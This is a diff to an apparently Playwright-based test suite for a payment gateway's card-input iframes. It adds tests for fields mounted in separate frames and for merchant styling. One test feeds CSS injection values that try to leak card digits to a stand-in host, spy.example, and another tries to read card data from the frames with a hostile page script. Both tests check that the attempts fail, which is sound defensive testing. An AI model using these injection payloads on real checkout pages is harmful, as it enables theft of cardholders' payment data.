@@ -273,6 +273,187 @@ describe('the card fields in the gateway’s frame', () => {
   });
 });
 
+const separate = {
+  number: (name: string) => visit.page.frameLocator('#at-number iframe').getByLabel(name),
+  expiry: (name: string) => visit.page.frameLocator('#at-expiry iframe').getByLabel(name),
+  code: (name: string) => visit.page.frameLocator('#at-code iframe').getByLabel(name),
+};
+
+/** Mounts each field in an element of its own. The elements are far apart, with an element of the page between two of them. */
+async function openSeparately(options: object = {}): Promise<void> {
+  await visit.open();
+  await visit.page.evaluate(async (given) => {
+    const cell = (id: string) => Object.assign(document.createElement('div'), { id });
+    const [number, expiry, code] = [cell('at-number'), cell('at-expiry'), cell('at-code')];
+    const form = document.querySelector('#form') ?? document.body;
+    form.append(number, Object.assign(document.createElement('hr')), expiry, code);
+    window.payment = await window.checkout.mount('card', form, {
+      fields: { number, expiry, 'security-code': code },
+      ...given,
+    });
+    const button = document.querySelector<HTMLButtonElement>('#pay');
+    if (button) {
+      form.append(button);
+      button.onclick = () => void window.payment.submit();
+    }
+  }, options);
+}
+
+describe('the card fields, each in a frame of its own', () => {
+  afterEach(() => expect(visit.violations).toEqual([]));
+
+  test('pay as one form', async () => {
+    await openSeparately();
+    await separate.number('Card number').fill(good);
+    await separate.expiry('Expiry date').fill('12/34');
+    await separate.code('Security code').fill('123');
+    expect(await visit.submit()).toEqual({ status: 'submitted' });
+    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
+    const card = { number: good, expMonth: 12, expYear: 2034, cvc: '123' };
+    expect(order().submits).toMatchObject([{ card }]);
+    expect(await separate.code('Security code').inputValue()).toBe('');
+    const titles = await visit.page
+      .locator('iframe')
+      .evaluateAll((all) => all.map((one) => (one as HTMLIFrameElement).title));
+    expect(titles).toEqual(['Card number', 'Expiry date', 'Security code']);
+  });
+
+  test('can be filled in with the keyboard alone, and the focus goes on from frame to frame', async () => {
+    await openSeparately();
+    const { keyboard } = visit.page;
+    const focusedFrame = () =>
+      expect.poll(() => visit.page.evaluate(() => document.activeElement?.parentElement?.id));
+    await keyboard.press('Tab');
+    await focusedFrame().toBe('at-number');
+    await keyboard.type(good);
+    await focusedFrame().toBe('at-expiry');
+    await keyboard.press('Tab');
+    await keyboard.type('1234');
+    await focusedFrame().toBe('at-code');
+    await keyboard.type('123');
+    await keyboard.press('Shift+Tab');
+    await focusedFrame().toBe('at-expiry');
+    await keyboard.press('Enter');
+    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
+  });
+
+  test('show a mistake when the focus moves to another frame, and move the focus to it at a submit', async () => {
+    await openSeparately();
+    const heights = () =>
+      visit.page.locator('iframe').evaluateAll((all) => all.map((one) => (one as HTMLElement).offsetHeight));
+    const [, before = 0] = await heights();
+    await separate.number('Card number').fill(good);
+    await separate.expiry('Expiry date').fill('13/34');
+    await separate.code('Security code').focus();
+    await visit.page.frameLocator('#at-expiry iframe').getByText('expiry date').last().waitFor();
+    await expect.poll(async () => (await heights())[1] ?? 0).toBeGreaterThan(before);
+    await visit.page.getByRole('button', { name: 'Pay' }).focus();
+    expect(await visit.submit()).toEqual({ status: 'invalid' });
+    await expect
+      .poll(() => visit.page.evaluate(() => document.activeElement?.parentElement?.id))
+      .toBe('at-expiry');
+    expect(order().submits).toEqual([]);
+  });
+
+  test('are drawn again, empty, if the browser loads one of the frames again', async () => {
+    await openSeparately();
+    await separate.number('Card number').fill(good);
+    await visit.page.locator('#at-code iframe').evaluate((frame: HTMLIFrameElement) => {
+      const { src } = frame;
+      frame.src = 'about:blank';
+      setTimeout(() => {
+        frame.src = src;
+      }, 50);
+    });
+    await expect
+      .poll(() =>
+        separate
+          .number('Card number')
+          .inputValue({ timeout: 500 })
+          .catch(() => null),
+      )
+      .toBe('');
+    await separate.code('Security code').fill('123');
+    await separate.number('Card number').fill(good);
+    await separate.expiry('Expiry date').fill('12/34');
+    await visit.submit();
+    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
+  });
+
+  test('disappear with the payment, from all elements', async () => {
+    await openSeparately();
+    await visit.mount('sandbox_wallet');
+    expect(await visit.page.locator('iframe').count()).toBe(0);
+  });
+});
+
+describe('style rules of the page', () => {
+  const rules = {
+    '.Input': { padding: '3px', border: '2px dashed rgb(4, 5, 6)' },
+    '.Input:focus': { boxShadow: 'rgb(7, 8, 9) 0px 0px 0px 3px' },
+    '.Label': { textTransform: 'uppercase', color: 'rgb(1, 1, 1)' },
+    '.Error': { color: 'rgb(2, 2, 2)' },
+  };
+
+  test.each([
+    ['in one frame', (options: object) => open(options), () => visit.fields],
+    ['in frames of their own', openSeparately, () => visit.page.frameLocator('#at-number iframe')],
+  ] as const)('style the fields %s', async (_, start, frame) => {
+    await start({ appearance: { rules } });
+    const input = frame().getByLabel('Card number');
+    await input.focus();
+    const styles = await input.evaluate((element) => {
+      const { padding, borderTopStyle, borderTopColor, boxShadow } = getComputedStyle(element);
+      const label = getComputedStyle(element.parentElement?.querySelector('label') ?? element);
+      return [padding, borderTopStyle, borderTopColor, boxShadow, label.textTransform, label.color];
+    });
+    expect(styles).toEqual([
+      '3px',
+      'dashed',
+      'rgb(4, 5, 6)',
+      'rgb(7, 8, 9) 0px 0px 0px 3px',
+      'uppercase',
+      'rgb(1, 1, 1)',
+    ]);
+    await visit.submit();
+    const error = frame().getByText('Enter your card number.');
+    expect(await error.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(2, 2, 2)');
+  });
+
+  test('cannot load a file, hide or move a field, or reach other elements (fault 64)', async () => {
+    const fetched: string[] = [];
+    visit.page.on('request', (request) => fetched.push(request.url()));
+    await open({
+      appearance: {
+        rules: {
+          '.Input': {
+            backgroundColor: 'red; background-image: url(https://spy.example/1)',
+            border: 'url(https://spy.example/2) 1px',
+            color: 'red} input[value^="4"] { background: url(https://spy.example/3)',
+            display: 'none',
+            position: 'fixed',
+            backgroundImage: 'url(https://spy.example/4)',
+            opacity: '0',
+            fontFamily: 'var(--x)',
+          },
+          'input[value^="4"]': { color: 'red' },
+          '.Input, body': { color: 'red' },
+          '.Error': { content: '"hidden"', visibility: 'hidden' },
+        },
+      },
+    });
+    await visit.fillCard(good, visit.fields);
+    const sheets = await visit.fields
+      .locator('body')
+      .evaluate(() =>
+        document.adoptedStyleSheets.flatMap(({ cssRules }) => Array.from(cssRules, ({ cssText }) => cssText)),
+      );
+    expect(sheets.join('\n')).not.toMatch(/url\(|\bred\b|value\^/);
+    expect(await field('Card number').isVisible()).toBe(true);
+    expect(fetched.filter((url) => url.includes('spy.example'))).toEqual([]);
+  });
+});
+
 describe('the events of the fields', () => {
   async function listen(): Promise<void> {
     await visit.page.evaluate(() => {
@@ -478,49 +659,57 @@ describe('a hostile script of the page', () => {
 
   const seen = () => visit.page.evaluate(() => (Reflect.get(window, 'seen') as string[]).join('\n'));
 
-  test('no script of the merchant’s page can read the card that the consumer enters and pays with (fault 64)', async () => {
-    const number = canaryNumber();
-    await spy();
-    await open();
-    await field('Card number').pressSequentially(number);
-    await field('Expiry date').pressSequentially('1234');
-    await field('Security code').pressSequentially('987');
-    const read = await visit.page.evaluate(() => {
-      const frame = document.querySelector('iframe');
-      const tries: (() => unknown)[] = [
-        () => frame?.contentDocument?.body.innerHTML ?? null,
-        () => frame?.contentWindow?.document.body.innerHTML,
-        () => frame?.contentWindow?.location.href,
-        () => Reflect.get(frame?.contentWindow ?? {}, 'name'),
-        () => frame?.contentWindow?.length,
-        () => Object.keys(frame?.contentWindow ?? {}).length,
-        () => document.querySelectorAll('input').length,
-        () => getSelection()?.toString(),
-        () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
-        () => JSON.stringify(performance.getEntries()),
-      ];
-      return tries.map((attempt) => {
-        try {
-          return attempt();
-        } catch (error) {
-          return (error as Error).name;
-        }
+  test.each([
+    ['in one frame', () => open(), { number: field, expiry: field, code: field }],
+    ['in frames of their own', openSeparately, separate],
+  ] as const)(
+    'no script of the merchant’s page can read the card that the consumer enters %s and pays with (fault 64)',
+    async (_, start, at) => {
+      const number = canaryNumber();
+      await spy();
+      await start();
+      await at.number('Card number').pressSequentially(number);
+      await at.expiry('Expiry date').pressSequentially('1234');
+      await at.code('Security code').pressSequentially('987');
+      const read = await visit.page.evaluate(() => {
+        const tries = [...document.querySelectorAll('iframe')].flatMap((frame): (() => unknown)[] => [
+          () => frame?.contentDocument?.body.innerHTML ?? null,
+          () => frame?.contentWindow?.document.body.innerHTML,
+          () => frame?.contentWindow?.location.href,
+          () => Reflect.get(frame?.contentWindow ?? {}, 'name'),
+          () => frame?.contentWindow?.length,
+          () => Object.keys(frame?.contentWindow ?? {}).length,
+          () => document.querySelectorAll('input').length,
+          () => getSelection()?.toString(),
+          () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
+          () => JSON.stringify(performance.getEntries()),
+        ]);
+        return tries.map((attempt) => {
+          try {
+            return attempt();
+          } catch (error) {
+            return (error as Error).name;
+          }
+        });
       });
-    });
-    await visit.submit();
-    expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
-    expect(order().submits[0]?.card).toMatchObject({ number, cvc: '987' });
-    const lastDigits = number.slice(-4);
-    const known = `${await seen()}\n${JSON.stringify(read)}\n${await visit.page.content()}`;
-    expect(read.slice(0, 4)).toEqual([null, 'SecurityError', 'SecurityError', 'SecurityError']);
-    expect(known).toContain('"type":"check"');
-    expect(known).toContain('transactionId');
-    const digits = known.replaceAll(/[^\d]/g, '');
-    for (const part of [number, number.slice(0, 8), number.slice(8), lastDigits])
-      expect(known).not.toContain(part);
-    expect(digits).not.toContain(number);
-    expect(known).not.toMatch(/\b987\b/);
-  });
+      await visit.submit();
+      expect(await visit.resultsCome(1)).toMatchObject([{ outcome: 'paid' }]);
+      expect(order().submits[0]?.card).toMatchObject({ number, cvc: '987' });
+      const lastDigits = number.slice(-4);
+      const known = `${await seen()}\n${JSON.stringify(read)}\n${await visit.page.content()}`;
+      for (let frame = 0; frame < read.length; frame += 10) {
+        const closed = [null, 'SecurityError', 'SecurityError', 'SecurityError'];
+        expect(read.slice(frame, frame + 4)).toEqual(closed);
+      }
+      expect(known).toContain('"type":"check"');
+      expect(known).toContain('transactionId');
+      const digits = known.replaceAll(/[^\d]/g, '');
+      for (const part of [number, number.slice(0, 8), number.slice(8), lastDigits])
+        expect(known).not.toContain(part);
+      expect(digits).not.toContain(number);
+      expect(known).not.toMatch(/\b987\b/);
+    },
+  );
 
   test('forged messages get nothing from the card fields and change nothing in them (fault 64)', async () => {
     const number = canaryNumber();
